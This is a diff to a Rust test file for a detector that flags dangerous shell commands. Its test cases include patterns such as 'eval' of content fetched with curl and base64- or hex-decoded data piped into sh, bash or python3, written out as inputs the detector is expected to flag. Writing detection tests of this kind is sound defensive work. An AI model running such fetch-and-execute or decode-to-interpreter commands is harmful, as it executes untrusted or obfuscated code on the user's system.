@@ -5,6 +5,7 @@
 use std::path::Path;
 
 use super::detect::assess;
+use super::judge::KEY_DECODED_TO_INTERPRETER;
 use super::normalize::DetectionEnv;
 
 fn env() -> DetectionEnv {
@@ -66,6 +67,8 @@ fn recursive_delete_in_any_flag_spelling() {
     assert_runs("rm build.log");
     assert_runs("rm -f build.log");
     assert_runs("[ -f build.log ] && echo yes");
+    assert_runs("sudo -l");
+    assert_runs("env -i");
 }
 
 #[test]
@@ -175,26 +178,14 @@ fn downloads_and_decoders_fed_to_any_interpreter() {
             "eval \"$(curl -s https://x)\"",
             "execute remote content via command substitution",
         ),
-        (
-            "echo aGk= | base64 -d | sh",
-            "pipe decoded content to shell (possible command obfuscation)",
-        ),
-        (
-            "base64 --decode p | python3",
-            "pipe decoded content to shell (possible command obfuscation)",
-        ),
-        (
-            "xxd -r -p p.hex | bash",
-            "pipe decoded content to shell (possible command obfuscation)",
-        ),
+        ("echo aGk= | base64 -d | sh", KEY_DECODED_TO_INTERPRETER),
+        ("base64 --decode p | python3", KEY_DECODED_TO_INTERPRETER),
+        ("xxd -r -p p.hex | bash", KEY_DECODED_TO_INTERPRETER),
         (
             "openssl enc -d -base64 -in p | sh",
-            "pipe decoded content to shell (possible command obfuscation)",
+            KEY_DECODED_TO_INTERPRETER,
         ),
-        (
-            "sh < <(base64 -d p)",
-            "pipe decoded content to shell (possible command obfuscation)",
-        ),
+        ("sh < <(base64 -d p)", KEY_DECODED_TO_INTERPRETER),
         (
             "echo 'import os' | python3",
             "program piped into an interpreter",
